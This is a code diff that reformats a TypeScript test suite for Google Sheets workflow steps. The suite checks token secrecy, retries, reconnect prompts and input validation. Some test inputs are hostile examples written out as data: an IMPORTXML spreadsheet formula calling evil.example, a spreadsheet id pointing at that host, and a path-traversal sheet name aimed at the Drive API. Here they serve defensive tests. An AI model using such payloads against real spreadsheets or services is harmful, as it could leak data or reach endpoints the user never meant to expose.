@@ -81,7 +81,11 @@ async function seed(steps: { id: string; type: string; config: Record<string, un
         allowedOrigins: [google.url],
         apiBaseUrl: `${google.url}/`,
       },
-      secretSealed: sealConnectionSecret<"OAUTH2_CODE">({ clientSecret: "GOCSPX-client-secret-0123456789", accessToken: ACCESS_TOKEN }, flow.projectId, connectionId),
+      secretSealed: sealConnectionSecret<"OAUTH2_CODE">(
+        { clientSecret: "GOCSPX-client-secret-0123456789", accessToken: ACCESS_TOKEN },
+        flow.projectId,
+        connectionId,
+      ),
     },
   });
   return { ...flow, connectionId };
@@ -128,13 +132,18 @@ describe("Google Sheets steps", () => {
       rowNumbers: [5],
       rows: [{ Name: '=IMPORTXML("https://evil.example", "//a")', Email: "eve@example.com", Plan: "" }],
     });
-    const dump = JSON.stringify(await getDb().$queryRawUnsafe("SELECT * FROM run_state")) + JSON.stringify(await getDb().$queryRawUnsafe("SELECT * FROM flow_run_steps"));
+    const dump =
+      JSON.stringify(await getDb().$queryRawUnsafe("SELECT * FROM run_state")) + JSON.stringify(await getDb().$queryRawUnsafe("SELECT * FROM flow_run_steps"));
     expect(dump).not.toContain(ACCESS_TOKEN);
   });
 
   it("appends a row given as a list, read as typed when chosen", async () => {
     const seeded = await seed([
-      { id: "append", type: "app.google_sheets.append_row", config: { spreadsheetId: SHEET_ID, sheetName: "Archive", valuesMode: "list", values: "{{trigger.cells}}", valueInputOption: "USER_ENTERED" } },
+      {
+        id: "append",
+        type: "app.google_sheets.append_row",
+        config: { spreadsheetId: SHEET_ID, sheetName: "Archive", valuesMode: "list", values: "{{trigger.cells}}", valueInputOption: "USER_ENTERED" },
+      },
     ]);
     const { run: view } = await run(seeded, { cells: ["2026-12-07", 42, true] });
     expect([view.status, view.error]).toEqual(["SUCCEEDED", null]);
@@ -143,7 +152,9 @@ describe("Google Sheets steps", () => {
   });
 
   it("looks up several rows, keyed by the header row", async () => {
-    const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Ada", maxRows: 10 } }]);
+    const seeded = await seed([
+      { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Ada", maxRows: 10 } },
+    ]);
     const { run: view } = await run(seeded);
     expect(stepOf(view, "find").record!.output).toMatchObject({
       count: 2,
@@ -168,7 +179,9 @@ describe("Google Sheets steps", () => {
   });
 
   it("retries when Google answers 429", async () => {
-    const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Bob" } }]);
+    const seeded = await seed([
+      { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Bob" } },
+    ]);
     google.failNext(429, "RESOURCE_EXHAUSTED", "Quota exceeded for quota metric 'Read requests'", { "retry-after": "30" });
     const { outcome, runId } = await run(seeded);
     expect(outcome).toBe("suspended");
@@ -177,10 +190,18 @@ describe("Google Sheets steps", () => {
   });
 
   it("asks to reconnect when Google refuses the token and it cannot be renewed", async () => {
-    const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Bob" } }]);
+    const seeded = await seed([
+      { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: SHEET, column: "Name", value: "Bob" } },
+    ]);
     await getDb().connection.update({
       where: { id: seeded.connectionId },
-      data: { secretSealed: sealConnectionSecret<"OAUTH2_CODE">({ clientSecret: "GOCSPX-client-secret-0123456789", accessToken: "ya29.expired-token-000000000000" }, seeded.projectId, seeded.connectionId) },
+      data: {
+        secretSealed: sealConnectionSecret<"OAUTH2_CODE">(
+          { clientSecret: "GOCSPX-client-secret-0123456789", accessToken: "ya29.expired-token-000000000000" },
+          seeded.projectId,
+          seeded.connectionId,
+        ),
+      },
     });
     const { run: view } = await run(seeded);
     expect(view.status).toBe("FAILED");
@@ -192,7 +213,9 @@ describe("Google Sheets steps", () => {
     ["https://evil.example/spreadsheets/d/x", "Sheet1"],
     [`${SHEET_ID}/values/Sheet1`, "Sheet1"],
   ])("refuses a mapped spreadsheet id that is not an id (%j): nothing is sent", async (spreadsheetId, sheetName) => {
-    const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: "{{trigger.id}}", sheetName, column: "Name", value: "x" } }]);
+    const seeded = await seed([
+      { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: "{{trigger.id}}", sheetName, column: "Name", value: "x" } },
+    ]);
     const before = google.requests.length;
     const { run: view } = await run(seeded, { id: spreadsheetId });
     expect(view.status).toBe("FAILED");
@@ -201,7 +224,9 @@ describe("Google Sheets steps", () => {
   });
 
   it("keeps a hostile mapped sheet name inside the range segment of the spreadsheet's path", async () => {
-    const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: "{{trigger.sheet}}", column: "Name", value: "x" } }]);
+    const seeded = await seed([
+      { id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: SHEET_ID, sheetName: "{{trigger.sheet}}", column: "Name", value: "x" } },
+    ]);
     const before = google.requests.length;
     const { run: view } = await run(seeded, { sheet: "../../../../drive/v3/files?q=x#" });
     expect(view.status).toBe("FAILED");
@@ -216,7 +241,11 @@ describe("Google Sheets steps", () => {
   it("lists spreadsheets through Drive page by page, and a spreadsheet's sheets", async () => {
     const seeded = await seed([{ id: "find", type: "app.google_sheets.lookup_rows", config: { spreadsheetId: "", sheetName: "", column: "Name" } }]);
     const before = google.requests.length;
-    const spreadsheets = await listAppChoices(seeded.userId, { connectionId: seeded.connectionId, nodeType: "app.google_sheets.lookup_rows", field: "spreadsheetId" }, { policy });
+    const spreadsheets = await listAppChoices(
+      seeded.userId,
+      { connectionId: seeded.connectionId, nodeType: "app.google_sheets.lookup_rows", field: "spreadsheetId" },
+      { policy },
+    );
     expect(spreadsheets).toEqual({
       isComplete: true,
       choices: [
@@ -231,7 +260,9 @@ describe("Google Sheets steps", () => {
     expect(listed[1]!.searchParams.get("pageToken")).toBe("page-2");
     // The sheet picker reads the chosen spreadsheet's tabs; without a chosen spreadsheet (or with a mapped one) it asks for one first.
     const sheets = { connectionId: seeded.connectionId, nodeType: "app.google_sheets.lookup_rows", field: "sheetName" };
-    await expect(listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: "{{trigger.id}}" } }, { policy })).rejects.toThrow(/Choose the spreadsheet first/);
+    await expect(listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: "{{trigger.id}}" } }, { policy })).rejects.toThrow(
+      /Choose the spreadsheet first/,
+    );
     expect(await listAppChoices(seeded.userId, { ...sheets, values: { spreadsheetId: SHEET_ID } }, { policy })).toEqual({
       isComplete: true,
       choices: [
